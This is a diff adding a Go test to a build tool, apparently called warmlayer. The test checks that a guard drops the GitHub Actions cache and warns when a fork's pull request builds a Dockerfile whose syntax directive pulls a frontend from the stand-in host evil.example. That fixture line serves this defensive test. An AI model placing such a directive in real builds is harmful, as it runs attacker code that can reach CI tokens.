@@ -9,6 +9,7 @@ import (
 
 	"github.com/warmlayer/warmlayer/inputs"
 	"github.com/warmlayer/warmlayer/internal/report"
+	"github.com/warmlayer/warmlayer/internal/testkit"
 	"github.com/warmlayer/warmlayer/scope"
 )
 
@@ -95,5 +96,31 @@ func TestResolveBuilds(t *testing.T) {
 	}
 	if one := resolve(t, in, facts); len(one.Builds) != 1 {
 		t.Errorf("%d builds on one builder", len(one.Builds))
+	}
+}
+
+// GitHub's cache is left out too: its entries carry the runner's token, whichever Git refs
+// the token reaches.
+func TestGuardKnowsGitHubsToken(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("# syntax=evil.example/fe\nFROM scratch\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	in, problems := inputs.Parse([]string{"--builder", "ssh://a", "--cache", "gha"}, nil, dir)
+	if len(problems) > 0 {
+		t.Fatal(problems)
+	}
+	environ := Environment{
+		"HOME=" + t.TempDir(), "ACTIONS_RESULTS_URL=https://results.example/",
+		"ACTIONS_RUNTIME_TOKEN=" + testkit.NewActionsCache(nil).Token("refs/pull/7/merge", "refs/heads/main"),
+	}
+	facts := scope.Facts{PR: 7, Default: "main", Untrusted: "a fork's pull request"}
+	run, problems := Resolve(in, facts, Host{Environ: environ, Redactor: report.NewRedactor(nil)})
+	if len(problems) > 0 {
+		t.Fatal(problems)
+	}
+	if b := run.Builds[0]; len(b.Caches) != 0 || len(b.Warnings) != 1 {
+		t.Errorf("caches %v, warnings %q", b.Caches, b.Warnings)
 	}
 }
